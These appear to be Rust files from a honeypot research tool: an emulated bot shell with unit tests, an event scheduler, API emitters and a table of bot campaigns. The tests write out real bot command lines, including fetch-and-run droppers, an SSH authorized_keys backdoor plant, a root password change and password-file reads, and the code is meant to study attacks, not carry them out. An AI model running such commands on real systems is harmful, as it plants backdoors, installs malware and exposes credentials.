    out.into_iter().filter(|s| !s.trim().is_empty()).collect()
}

/// Tokenizes one simple command into argv plus an optional redirection.
/// Handles single/double quotes and `>`/`>>` (with or without a space).
fn tokenize(cmd: &str) -> (Vec<String>, Option<Redirect>) {
    let mut argv: Vec<String> = Vec::new();
    let mut redirect: Option<Redirect> = None;
    let mut cur = String::new();
    let mut chars = cmd.chars().peekable();
    let mut quote: Option<char> = None;
    let mut pending_redirect: Option<bool> = None; // Some(append)

    let flush = |cur: &mut String,
                 argv: &mut Vec<String>,
                 redirect: &mut Option<Redirect>,
                 pending: &mut Option<bool>| {
        if cur.is_empty() {
            return;
        }
        let tok = std::mem::take(cur);
        match pending.take() {
            Some(append) => {
                *redirect = Some(Redirect {
                    target: tok,
                    append,
                })
            }
            None => argv.push(tok),
        }
    };

    while let Some(c) = chars.next() {
        match quote {
            Some(q) => {
                if c == q {
                    quote = None;
                } else {
                    cur.push(c);
                }
            }
            None => match c {
                '\'' | '"' => quote = Some(c),
                ' ' | '\t' => flush(&mut cur, &mut argv, &mut redirect, &mut pending_redirect),
                '>' => {
                    flush(&mut cur, &mut argv, &mut redirect, &mut pending_redirect);
                    let append = chars.peek() == Some(&'>');
                    if append {
                        chars.next();
                    }
                    pending_redirect = Some(append);
                }
                _ => cur.push(c),
            },
        }
    }
    flush(&mut cur, &mut argv, &mut redirect, &mut pending_redirect);
    (argv, redirect)
}

/// `echo -e` escape decoding for the subset bots use (`\xHH`, `\n`, `\t`).
fn decode_escapes(s: &str) -> String {
    let mut out = String::new();
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('x') => {
                let mut v = 0u32;
                let mut n = 0;
                while n < 2 {
                    match chars.peek().and_then(|c| c.to_digit(16)) {
                        Some(d) => {
                            v = v * 16 + d;
                            chars.next();
                            n += 1;
                        }
                        None => break,
                    }
                }
                if n > 0 {
                    if let Some(ch) = char::from_u32(v) {
                        out.push(ch);
                    }
                } else {
                    out.push_str("\\x");
                }
            }
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('\\') => out.push('\\'),
            Some(other) => {
                out.push('\\');
                out.push(other);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// Finds `scheme://…` URIs in a command string.
fn extract_uris(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for tok in cmd.split_whitespace() {
        let t = tok.trim_matches(|c| c == '"' || c == '\'' || c == ';');
        if let Some(idx) = t.find("://") {
            let scheme = &t[..idx];
            if !scheme.is_empty()
                && scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '+' || c == '-')
            {
                out.push(t.to_string());
            }
        }
    }
    out
}

/// `wget 1.2.3.4/x.sh` means `http://1.2.3.4/x.sh`.
fn normalize_uri(s: &str) -> String {
    if s.contains("://") {
        s.to_string()
    } else {
        format!("http://{s}")
    }
}

/// Last path component of a URI, or `index.html` for bare hosts.
fn basename_of_uri(uri: &str) -> String {
    let after_scheme = uri.split("://").nth(1).unwrap_or(uri);
    let parts: Vec<&str> = after_scheme.split('/').collect();
    match parts[1..].last() {
        Some(b) if !b.is_empty() => b.to_string(),
        _ => "index.html".to_string(),
    }
}

fn looks_like_path(name: &str) -> bool {
    name.starts_with("./") || name.starts_with('/') || name.contains('/')
}

fn is_mode(a: &str) -> bool {
    a.chars().all(|c| c.is_ascii_digit()) && a.len() <= 4
}

fn is_known_binary(t: &str) -> bool {
    matches!(
        t,
        "wget" | "curl" | "sh" | "bash" | "perl" | "python" | "busybox" | "tftp"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashMap;

    struct MapStore(HashMap<String, Vec<u8>>);

    impl RemoteStore for MapStore {
        fn fetch(&self, uri: &str) -> Option<Vec<u8>> {
            self.0.get(uri).cloned()
        }
    }

    fn store() -> MapStore {
        let mut m = HashMap::new();
        m.insert(
            "http://203.0.113.5/bins.sh".to_string(),
            b"#!/bin/sh\nMIRAI\n".to_vec(),
        );
        m.insert(
            "tftp://203.0.113.5/tftp1.sh".to_string(),
            b"#!/bin/sh\nTFTP\n".to_vec(),
        );
        m.insert("ftp://203.0.113.5/f.bin".to_string(), b"\x7fELF-f".to_vec());
        MapStore(m)
    }

    #[test]
    fn segment_splitting_respects_quotes() {
        assert_eq!(
            split_segments("a; b && c || d | e"),
            vec!["a", " b ", " c ", " d ", " e"]
        );
        assert_eq!(
            split_segments(r#"echo "a;b" ; c"#),
            vec![r#"echo "a;b" "#, " c"]
        );
    }

    #[test]
    fn tokenizer_handles_quotes_and_redirects() {
        let (argv, r) = tokenize(r#"echo "hello world" >> /tmp/x"#);
        assert_eq!(argv, vec!["echo", "hello world"]);
        assert_eq!(
            r,
            Some(Redirect {
                target: "/tmp/x".into(),
                append: true
            })
        );
        let (argv, r) = tokenize("echo hi>file");
        assert_eq!(argv, vec!["echo", "hi"]);
        assert_eq!(
            r,
            Some(Redirect {
                target: "file".into(),
                append: false
            })
        );
    }

    #[test]
    fn echo_ok_scout() {
        let s = store();
        let mut sh = Shell::new(&s);
        let out = sh.exec_line(r#"echo -e "\x6F\x6B""#);
        assert_eq!(out.output.trim(), "ok");
        assert!(out.known);
        assert!(sh.file_events().is_empty(), "no state change");
    }

    #[test]
    fn uname_variants() {
        let s = store();
        let mut sh = Shell::new(&s);
        assert!(sh.exec_line("uname -a").output.contains("Linux"));
        assert!(sh
            .exec_line("uname -s -v -n -r -m")
            .output
            .contains("x86_64"));
        assert!(sh.exec_line("nproc").output.contains('4'));
    }

    #[test]
    fn mdrfckr_key_plant_is_state_changing() {
        let s = store();
        let mut sh = Shell::new(&s);
        let line = r#"cd ~; chattr -ia .ssh; lockr -ia .ssh; cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nz...Bdj mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh"#;
        let out = sh.exec_line(line);
        // `lockr` is not a real tool — the line is partially unknown.
        assert!(!out.known);
        let created: Vec<_> = sh
            .file_events()
            .iter()
            .filter(|e| matches!(e.op, FileOp::Created { .. }))
            .collect();
        assert_eq!(created.len(), 1);
        assert_eq!(created[0].path, "/root/.ssh/authorized_keys");
    }

    #[test]
    fn wget_downloads_and_hashes() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh");
        assert_eq!(sh.uris(), &["http://203.0.113.5/bins.sh".to_string()]);
        let ev = sh.file_events();
        assert!(matches!(&ev[0].op, FileOp::Created { sha256 } if sha256.len() == 64));
        assert_eq!(ev[0].path, "/tmp/bins.sh");
        assert!(matches!(&ev[1].op, FileOp::ExecAttempt { sha256: Some(_) }));
        assert!(matches!(&ev[2].op, FileOp::Deleted));
    }

    #[test]
    fn dead_dropper_records_failure() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("wget http://198.51.100.99/gone.sh");
        assert!(matches!(sh.file_events()[0].op, FileOp::DownloadFailed));
        // Exec of the never-downloaded file is a missing exec.
        sh.exec_line("sh gone.sh");
        assert!(matches!(
            sh.file_events()[1].op,
            FileOp::ExecAttempt { sha256: None }
        ));
    }

    #[test]
    fn scp_is_not_emulated_so_exec_misses() {
        let s = store();
        let mut sh = Shell::new(&s);
        let out = sh.exec_line("scp user@203.0.113.7:/malware /tmp/m");
        assert!(!out.known, "scp must be recorded unknown");
        sh.exec_line("chmod +x /tmp/m; /tmp/m");
        assert!(
            matches!(
                sh.file_events().last().unwrap().op,
                FileOp::ExecAttempt { sha256: None }
            ),
            "file pushed via scp is never captured"
        );
    }

    #[test]
    fn curl_to_stdout_is_not_a_state_change() {
        let s = store();
        let mut sh = Shell::new(&s);
        let out = sh
            .exec_line("curl https://203.0.113.200/ -s -X GET --max-redirs 5 --cookie 'k=v' --raw");
        assert!(out.known);
        assert!(sh.file_events().is_empty());
        assert_eq!(sh.uris(), &["https://203.0.113.200/".to_string()]);
    }

    #[test]
    fn curl_with_o_downloads() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("curl -o /tmp/b.sh http://203.0.113.5/bins.sh");
        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
        assert_eq!(sh.file_events()[0].path, "/tmp/b.sh");
    }

    #[test]
    fn tftp_and_ftpget() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("tftp -g -r tftp1.sh 203.0.113.5");
        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
        assert!(sh.uris().iter().any(|u| u == "tftp://203.0.113.5/tftp1.sh"));
        sh.exec_line("ftpget -u anonymous -p pw 203.0.113.5 f.bin f.bin");
        assert!(matches!(&sh.file_events()[1].op, FileOp::Created { .. }));
    }

    #[test]
    fn busybox_applets_and_probe() {
        let s = store();
        let mut sh = Shell::new(&s);
        let out = sh.exec_line("/bin/busybox KDVJS");
        assert_eq!(out.output.trim(), "KDVJS: applet not found");
        assert!(out.known);
        sh.exec_line("/bin/busybox wget http://203.0.113.5/bins.sh");
        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
        let cat = sh.exec_line("/bin/busybox cat /proc/self/exe || cat /proc/self/exe");
        assert!(cat.output.contains("ELF"));
    }

    #[test]
    fn passwd_and_crontab_are_state_changes() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd|bash");
        assert!(sh.root_password_changed());
        assert!(sh.file_events().iter().any(|e| e.path == "/etc/shadow"));
        sh.exec_line("crontab /tmp/cron");
        assert!(sh
            .file_events()
            .iter()
            .any(|e| e.path == "/var/spool/cron/root"));
    }

    #[test]
    fn unknown_command_is_recorded_not_emulated() {
        let s = store();
        let mut sh = Shell::new(&s);
        let out = sh.exec_line("juicessh --probe");
        assert!(!out.known);
        assert!(out.output.contains("command not found"));
    }

    #[test]
    fn sh_dash_c_executes_inline() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line(r#"sh -c "wget http://203.0.113.5/bins.sh""#);
        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
    }

    #[test]
    fn cat_to_file_is_creation() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("cat /etc/passwd > /tmp/pw");
        let ev = sh.file_events();
        assert!(matches!(&ev[0].op, FileOp::Created { .. }));
        assert_eq!(ev[0].path, "/tmp/pw");
    }

    #[test]
    fn rm_star_empties_directory() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("echo a > /tmp/a; echo b > /tmp/b");
        sh.exec_line("cd /tmp; rm -rf /tmp/*");
        let dels = sh
            .file_events()
            .iter()
            .filter(|e| matches!(e.op, FileOp::Deleted))
            .count();
        assert_eq!(dels, 2);
    }

    #[test]
    fn uri_extraction_from_arbitrary_commands() {
        assert_eq!(
            extract_uris("wget http://a/b; curl https://c/d 'ftp://e/f'"),
            vec!["http://a/b", "https://c/d", "ftp://e/f"]
        );
        assert!(extract_uris("echo ://nothing").is_empty());
    }

    #[test]
    fn download_without_scheme_defaults_to_http() {
        let s = store();
        let mut sh = Shell::new(&s);
        sh.exec_line("wget 203.0.113.5/bins.sh");
        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
    }

    #[test]
    fn dd_fingerprint_and_write() {
        let s = store();
        let mut sh = Shell::new(&s);
        let out = sh.exec_line("dd if=/proc/self/exe bs=22 count=1");
        assert!(out.output.contains("ELF"));
        assert!(sh.file_events().is_empty());
        sh.exec_line("dd if=/etc/passwd of=/tmp/c");
        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
    }
}
