//! Monotonic discrete-event scheduler.
//!
//! A thin wrapper around a binary heap keyed by `(DateTime, sequence)`:
//! events fire in time order, and events scheduled for the same instant fire
//! in the order they were scheduled (FIFO), which keeps multi-component
//! simulations deterministic without tie-breaking hacks.

use hutil::DateTime;
use std::cmp::Reverse;
use std::collections::BinaryHeap;

/// A discrete-event scheduler over payloads of type `E`.
pub struct Scheduler<E> {
    heap: BinaryHeap<Reverse<Entry<E>>>,
    seq: u64,
    now: DateTime,
    fired: u64,
}

struct Entry<E> {
    at: DateTime,
    seq: u64,
    payload: E,
}

impl<E> PartialEq for Entry<E> {
    fn eq(&self, other: &Self) -> bool {
        self.at == other.at && self.seq == other.seq
    }
}
impl<E> Eq for Entry<E> {}
impl<E> PartialOrd for Entry<E> {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl<E> Ord for Entry<E> {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.at.cmp(&other.at).then(self.seq.cmp(&other.seq))
    }
}

impl<E> Scheduler<E> {
    /// Creates a scheduler whose clock starts at `start`.
    pub fn new(start: DateTime) -> Self {
        Self {
            heap: BinaryHeap::new(),
            seq: 0,
            now: start,
            fired: 0,
        }
    }

    /// The current simulated instant (the time of the last fired event, or
    /// the start time before any event fired).
    pub fn now(&self) -> DateTime {
        self.now
    }

    /// Total number of events fired so far.
    pub fn fired(&self) -> u64 {
        self.fired
    }

    /// Number of events still pending.
    pub fn pending(&self) -> usize {
        self.heap.len()
    }

    /// Schedules `payload` at the absolute instant `at`.
    ///
    /// Panics if `at` lies in the simulated past — an event that would
    /// violate causality is always a bug in the caller.
    pub fn schedule(&mut self, at: DateTime, payload: E) {
        assert!(
            at >= self.now,
            "event scheduled in the past: {} < {}",
            at,
            self.now
        );
        self.heap.push(Reverse(Entry {
            at,
            seq: self.seq,
            payload,
        }));
        self.seq += 1;
    }

    /// Schedules `payload` `secs` seconds after the current instant.
    pub fn schedule_in(&mut self, secs: i64, payload: E) {
        assert!(secs >= 0, "negative delay: {secs}");
        let at = self.now.plus_secs(secs);
        self.schedule(at, payload);
    }

    /// Fires the next event, advancing the clock. Returns `None` when the
    /// queue is empty.
    pub fn next_event(&mut self) -> Option<(DateTime, E)> {
        let Reverse(e) = self.heap.pop()?;
        debug_assert!(e.at >= self.now);
        self.now = e.at;
        self.fired += 1;
        Some((e.at, e.payload))
    }

    /// Runs the queue to exhaustion, passing each event to `handle`.
    /// The handler may schedule further events through the `&mut self`
    /// re-borrow it receives.
    pub fn run<F: FnMut(&mut Self, DateTime, E)>(&mut self, mut handle: F) {
        while let Some((at, ev)) = self.next_event() {
            handle(self, at, ev);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hutil::Date;

    fn t(secs: i64) -> DateTime {
        DateTime::from_unix(secs)
    }

    #[test]
    fn fires_in_time_order() {
        let mut s = Scheduler::new(t(0));
        s.schedule(t(30), "c");
        s.schedule(t(10), "a");
        s.schedule(t(20), "b");
        let order: Vec<_> = std::iter::from_fn(|| s.next_event())
            .map(|(_, e)| e)
            .collect();
        assert_eq!(order, vec!["a", "b", "c"]);
    }

    #[test]
    fn same_instant_is_fifo() {
        let mut s = Scheduler::new(t(0));
        for i in 0..100 {
            s.schedule(t(5), i);
        }
        let order: Vec<_> = std::iter::from_fn(|| s.next_event())
            .map(|(_, e)| e)
            .collect();
        assert_eq!(order, (0..100).collect::<Vec<_>>());
    }

    #[test]
    fn clock_advances_with_events() {
        let mut s = Scheduler::new(t(0));
        s.schedule(t(42), ());
        assert_eq!(s.now(), t(0));
        s.next_event();
        assert_eq!(s.now(), t(42));
        assert_eq!(s.fired(), 1);
    }

    #[test]
    #[should_panic(expected = "scheduled in the past")]
    fn rejects_causality_violation() {
        let mut s = Scheduler::new(t(100));
        s.schedule(t(99), ());
    }

    #[test]
    fn run_allows_cascading_events() {
        let mut s = Scheduler::new(Date::new(2021, 12, 1).at_midnight());
        s.schedule_in(10, 3u32);
        let mut seen = Vec::new();
        s.run(|s, _, n| {
            seen.push(n);
            if n > 0 {
                s.schedule_in(10, n - 1);
            }
        });
        assert_eq!(seen, vec![3, 2, 1, 0]);
        assert_eq!(s.pending(), 0);
    }

    #[test]
    fn schedule_in_is_relative_to_now() {
        let mut s = Scheduler::new(t(1000));
        s.schedule_in(5, "x");
        let (at, _) = s.next_event().unwrap();
        assert_eq!(at, t(1005));
    }
}
