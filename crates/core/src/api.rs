//! The versioned `honeylab-api v1` JSON surface.
//!
//! Every programmatic consumer of this workspace — the live HTTP
//! endpoints in `crates/serve`, the final `ServeReport`, and
//! `honeylab analyze --format json` — emits the same envelope
//! (`hutil::api_envelope`) around document bodies built here, so one
//! committed golden set (`docs/api_v1/*.json`) gates the whole contract.
//!
//! Emitters are plain functions over the analysis result types rather
//! than a serde derive: the workspace is zero-dep by design
//! (`hutil::Json` is the only codec), and hand-rolled emitters keep the
//! wire shape an explicit, reviewable artefact instead of an accident of
//! struct field order.
//!
//! # Stability rules
//!
//! * Fields are never removed or renamed within `v1`; new fields may be
//!   appended.
//! * Object key order is part of the golden files (the emitter is
//!   deterministic), but consumers must key by name, not position.
//! * Unbounded collections (download event lists) are summarised, not
//!   inlined — the API is a contract, not a bulk-export path.

use crate::analysis::AnalysisReport;
use crate::logins::{CowrieDefaultProbes, TopPasswords};
use crate::mdrfckr::Timeline;
use crate::storage_analysis::StorageStats;
use crate::taxonomy::TaxonomyStats;
use hutil::Json;

/// §3.3 taxonomy statistics as a v1 object body.
pub fn taxonomy_json(t: &TaxonomyStats) -> Json {
    Json::obj([
        ("total_sessions", Json::u64(t.total_sessions)),
        ("ssh_sessions", Json::u64(t.ssh_sessions)),
        ("telnet_sessions", Json::u64(t.telnet_sessions)),
        ("unique_ssh_clients", Json::u64(t.unique_ssh_clients)),
        ("scanning", Json::u64(t.scanning)),
        ("scouting", Json::u64(t.scouting)),
        ("intrusion", Json::u64(t.intrusion)),
        ("command_execution", Json::u64(t.command_execution)),
    ])
}

/// Table 1 category histogram as a v1 array body (descending counts).
pub fn categories_json(cats: &[(&'static str, u64)], coverage: f64) -> Json {
    Json::obj([
        ("coverage", Json::Num(coverage)),
        (
            "categories",
            Json::arr(cats.iter().map(|(label, n)| {
                Json::obj([("label", Json::str(*label)), ("sessions", Json::u64(*n))])
            })),
        ),
    ])
}

/// Fig. 10 top passwords as a v1 object body.
pub fn passwords_json(top: &TopPasswords) -> Json {
    Json::obj([
        ("passwords", Json::arr(top.passwords.iter().map(Json::str))),
        (
            "by_month",
            Json::Obj(
                top.by_month
                    .iter()
                    .map(|(month, counts)| {
                        (
                            month.to_string(),
                            Json::arr(counts.iter().map(|&c| Json::u64(c))),
                        )
                    })
                    .collect(),
            ),
        ),
    ])
}

/// Fig. 11 Cowrie-default probe statistics as a v1 object body.
pub fn probes_json(p: &CowrieDefaultProbes) -> Json {
    let monthly = |m: &std::collections::BTreeMap<hutil::Month, u64>| {
        Json::Obj(
            m.iter()
                .map(|(month, n)| (month.to_string(), Json::u64(*n)))
                .collect(),
        )
    };
    Json::obj([
        ("phil_success", monthly(&p.phil_success)),
        ("richard_tries", monthly(&p.richard_tries)),
        ("phil_unique_ips", Json::u64(p.phil_unique_ips)),
        ("phil_no_command_frac", Json::Num(p.phil_no_command_frac)),
    ])
}

/// §7 storage headline statistics as a v1 object body.
pub fn storage_json(s: &StorageStats) -> Json {
    Json::obj([
        ("download_sessions", Json::u64(s.download_sessions)),
        ("different_ip_frac", Json::Num(s.different_ip_frac)),
        (
            "unique_download_clients",
            Json::u64(s.unique_download_clients),
        ),
        ("unique_storage_ips", Json::u64(s.unique_storage_ips)),
        (
            "storage_ip_reported_frac",
            Json::Num(s.storage_ip_reported_frac),
        ),
    ])
}

/// §9 mdrfckr timeline as a v1 object body.
pub fn mdrfckr_json(t: &Timeline) -> Json {
    Json::obj([(
        "daily",
        Json::arr(t.daily.iter().map(|(date, (sessions, ips))| {
            Json::obj([
                ("date", Json::str(date.label())),
                ("sessions", Json::u64(*sessions)),
                ("unique_ips", Json::u64(*ips)),
            ])
        })),
    )])
}

/// The full `analyze` result as a v1 document (envelope kind
/// `"analysis"`). Unselected reports serialise as `null`, so a consumer
/// can distinguish "not computed" from "computed empty".
pub fn analysis_json(r: &AnalysisReport) -> Json {
    let opt = |v: Option<Json>| v.unwrap_or(Json::Null);
    let body = Json::obj([
        ("sessions", Json::u64(r.sessions)),
        ("taxonomy", opt(r.taxonomy.as_ref().map(taxonomy_json))),
        (
            "classification",
            opt(match (&r.categories, r.coverage) {
                (Some(cats), Some(cov)) => Some(categories_json(cats, cov)),
                _ => None,
            }),
        ),
        ("budget_exhaustions", Json::u64(r.budget_exhaustions)),
        ("passwords", opt(r.passwords.as_ref().map(passwords_json))),
        ("probes", opt(r.probes.as_ref().map(probes_json))),
        (
            "downloads",
            opt(r.storage.as_ref().map(|s| {
                let mut body = storage_json(s);
                if let (Json::Obj(pairs), Some(events)) = (&mut body, &r.downloads) {
                    pairs.insert(0, ("events_total".into(), Json::u64(events.len() as u64)));
                }
                body
            })),
        ),
        ("mdrfckr", opt(r.mdrfckr.as_ref().map(mdrfckr_json))),
        (
            "import",
            opt(r.import.as_ref().map(|d| {
                Json::obj([
                    ("lines_total", Json::u64(d.lines_total as u64)),
                    ("recovered", Json::u64(d.recovered as u64)),
                    ("unparseable", Json::u64(d.errors.len() as u64)),
                ])
            })),
        ),
    ]);
    hutil::api_envelope("analysis", body)
}

/// Deterministic sample documents backing the `docs/api_v1` golden set
/// and `honeylab api-sample`. Every field is populated with a fixed,
/// recognisable value so schema drift (added/removed/renamed fields,
/// changed nesting) shows up as a one-line diff against the goldens.
pub mod samples {
    use super::*;
    use crate::analysis::ImportDiagnostics;
    use hutil::{Date, Month};

    /// A fully-populated [`AnalysisReport`] with fixed values.
    pub fn analysis_report() -> AnalysisReport {
        let mut by_month = std::collections::BTreeMap::new();
        by_month.insert(Month::new(2022, 3), vec![31u64, 7]);
        by_month.insert(Month::new(2022, 4), vec![12u64, 0]);
        let mut phil = std::collections::BTreeMap::new();
        phil.insert(Month::new(2022, 3), 9u64);
        let mut richard = std::collections::BTreeMap::new();
        richard.insert(Month::new(2022, 4), 4u64);
        let mut daily = std::collections::BTreeMap::new();
        daily.insert(Date::new(2022, 12, 8), (5u64, 3u64));
        AnalysisReport {
            sessions: 1000,
            taxonomy: Some(TaxonomyStats {
                total_sessions: 1000,
                ssh_sessions: 900,
                telnet_sessions: 100,
                unique_ssh_clients: 250,
                scanning: 80,
                scouting: 470,
                intrusion: 150,
                command_execution: 200,
            }),
            categories: Some(vec![("ssh_key_planting", 120), ("recon_uname", 80)]),
            coverage: Some(0.9921),
            passwords: Some(TopPasswords {
                passwords: vec!["admin".into(), "123456".into()],
                by_month,
            }),
            probes: Some(CowrieDefaultProbes {
                phil_success: phil,
                richard_tries: richard,
                phil_unique_ips: 6,
                phil_no_command_frac: 0.9167,
            }),
            downloads: Some(Vec::new()),
            storage: Some(StorageStats {
                download_sessions: 42,
                different_ip_frac: 0.8,
                unique_download_clients: 33,
                unique_storage_ips: 11,
                storage_ip_reported_frac: 0.56,
            }),
            mdrfckr: Some(Timeline { daily }),
            import: Some(ImportDiagnostics {
                lines_total: 1024,
                recovered: 1000,
                errors: Vec::new(),
            }),
            budget_exhaustions: 0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hutil::API_VERSION;

    #[test]
    fn analysis_document_has_envelope_and_all_sections() {
        let doc = analysis_json(&samples::analysis_report());
        assert_eq!(
            doc.get("honeylab_api").and_then(Json::as_str),
            Some(API_VERSION)
        );
        assert_eq!(doc.get("kind").and_then(Json::as_str), Some("analysis"));
        let data = doc.get("data").expect("data body");
        assert_eq!(data.get("sessions").and_then(Json::as_i64), Some(1000));
        for section in [
            "taxonomy",
            "classification",
            "passwords",
            "probes",
            "downloads",
            "mdrfckr",
            "import",
        ] {
            assert!(
                !matches!(data.get(section), None | Some(Json::Null)),
                "sample populates {section}"
            );
        }
        // The document round-trips through the codec.
        assert_eq!(Json::parse(&doc.pretty()).unwrap(), doc);
    }

    #[test]
    fn unselected_reports_serialise_as_null() {
        let doc = analysis_json(&AnalysisReport::default());
        let data = doc.get("data").unwrap();
        assert_eq!(data.get("taxonomy"), Some(&Json::Null));
        assert_eq!(data.get("classification"), Some(&Json::Null));
        assert_eq!(data.get("mdrfckr"), Some(&Json::Null));
    }

    #[test]
    fn category_counts_carry_labels_and_counts() {
        let body = categories_json(&[("a", 3), ("b", 1)], 0.5);
        let cats = body.get("categories").and_then(Json::as_array).unwrap();
        assert_eq!(cats.len(), 2);
        assert_eq!(cats[0].get("label").and_then(Json::as_str), Some("a"));
        assert_eq!(cats[0].get("sessions").and_then(Json::as_i64), Some(3));
    }
}
