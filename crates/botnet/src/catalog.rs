//! The calibrated campaign table.
//!
//! One entry per bot campaign: which archetype, over which date windows, at
//! what *paper-scale* daily session rate, from how large a client-IP pool.
//! This table is the single source of every temporal phenomenon in the
//! reproduction — waves (Fig. 2/3), the early-2022 spike (Fig. 1), the
//! 2023 shift toward non-state-changing scouting, the mid-2022 death of
//! `bbox_unlabelled`, the 2022-12-08 births of `3245gs5662d34` and the
//! mdrfckr variant, and the Jan–Apr 2024 curl proxy abuse.
//!
//! Rates are sessions/day at paper scale; the driver divides by its
//! session-scale denominator. Campaigns sharing a `pool` key draw client
//! IPs from the same pool (how the 99.4 % mdrfckr/3245 overlap arises).

use crate::archetype::Archetype;
use hutil::Date;

/// A constant-rate activity window (inclusive dates).
#[derive(Debug, Clone, Copy)]
pub struct Window {
    /// First active day.
    pub start: Date,
    /// Last active day.
    pub end: Date,
    /// Paper-scale sessions per day while active.
    pub per_day: f64,
}

/// One campaign: an archetype plus its schedule and client population.
#[derive(Debug, Clone)]
pub struct CampaignSpec {
    /// The bot behaviour.
    pub bot: Archetype,
    /// Activity windows (may overlap; rates add).
    pub windows: Vec<Window>,
    /// Client-IP pool key (campaigns with the same key share IPs).
    pub pool: &'static str,
    /// Paper-scale unique client IPs in the pool.
    pub pool_size_paper: u64,
    /// If set, the pool size is absolute, not scaled (e.g. the four
    /// curl_maxred clients).
    pub pool_exact: bool,
    /// If set, the campaign only ever reaches this many sensors
    /// (curl_maxred hit 180 of 221).
    pub sensor_limit: Option<usize>,
}

impl CampaignSpec {
    /// Paper-scale rate on day `d` (0 when inactive).
    pub fn rate(&self, d: Date) -> f64 {
        self.windows
            .iter()
            .filter(|w| d >= w.start && d <= w.end)
            .map(|w| w.per_day)
            .sum()
    }
}

fn d(y: i32, m: u8, day: u8) -> Date {
    Date::new(y, m, day)
}

fn w(start: Date, end: Date, per_day: f64) -> Window {
    Window {
        start,
        end,
        per_day,
    }
}

/// Study window start.
pub fn study_start() -> Date {
    Date::new(2021, 12, 1)
}

/// Study window end.
pub fn study_end() -> Date {
    Date::new(2024, 8, 31)
}

/// Builds the full calibrated campaign table.
pub fn catalog() -> Vec<CampaignSpec> {
    let s = study_start();
    let e = study_end();
    let spec = |bot, windows, pool, pool_size_paper| CampaignSpec {
        bot,
        windows,
        pool,
        pool_size_paper,
        pool_exact: false,
        sensor_limit: None,
    };
    let mut v = vec![
        // ---- taxonomy background ---------------------------------------
        spec(Archetype::Scanner, vec![w(s, e, 45_000.0)], "scan", 120_000),
        spec(
            Archetype::GenericScout,
            vec![
                w(s, d(2022, 12, 31), 220_000.0),
                w(d(2023, 1, 1), e, 280_000.0),
            ],
            "scout",
            400_000,
        ),
        spec(
            Archetype::GenericIntruder,
            vec![w(s, e, 56_000.0)],
            "intrude",
            80_000,
        ),
        spec(
            Archetype::TelnetNoise,
            vec![w(s, e, 88_000.0)],
            "telnet",
            60_000,
        ),
        // ---- non-state-changing scouts (Fig. 2) -------------------------
        spec(
            Archetype::EchoOk,
            vec![
                w(s, d(2022, 12, 31), 40_000.0),
                w(d(2023, 1, 1), e, 110_000.0),
            ],
            "echook",
            50_000,
        ),
        spec(
            Archetype::EchoOkTxt,
            vec![w(s, e, 800.0)],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::EchoSshCheck,
            vec![w(s, e, 120.0)],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::EchoOsCheck,
            vec![w(s, e, 200.0)],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::UnameSvnrm,
            vec![w(s, e, 3_000.0)],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::UnameSvnr,
            vec![w(s, e, 400.0)],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::UnameA,
            vec![
                w(d(2022, 7, 1), d(2022, 10, 31), 6_000.0),
                w(d(2024, 2, 1), d(2024, 5, 31), 8_000.0),
            ],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::UnameANproc,
            vec![w(d(2023, 1, 1), e, 1_500.0)],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::UnameSnriNproc,
            vec![w(d(2022, 1, 1), d(2023, 6, 30), 800.0)],
            "scouts2",
            20_000,
        ),
        spec(
            Archetype::BboxScoutCat,
            vec![
                w(d(2022, 3, 1), d(2022, 8, 31), 8_000.0),
                w(d(2023, 5, 1), d(2023, 9, 30), 6_000.0),
            ],
            "bbox",
            30_000,
        ),
        spec(
            Archetype::Ak47Scout,
            vec![w(d(2023, 9, 1), e, 1_000.0)],
            "scouts2",
            20_000,
        ),
        spec(Archetype::ShellFp, vec![w(s, e, 500.0)], "scouts2", 20_000),
        spec(Archetype::JuiceSsh, vec![w(s, e, 100.0)], "misc", 8_000),
        spec(Archetype::Clamav, vec![w(s, e, 150.0)], "misc", 8_000),
        spec(
            Archetype::ExportVei,
            vec![w(d(2023, 1, 1), e, 80.0)],
            "misc",
            8_000,
        ),
        spec(
            Archetype::CloudPrint,
            vec![w(d(2022, 1, 1), d(2022, 12, 31), 60.0)],
            "misc",
            8_000,
        ),
        spec(
            Archetype::Binx86,
            vec![w(d(2023, 6, 1), e, 90.0)],
            "misc",
            8_000,
        ),
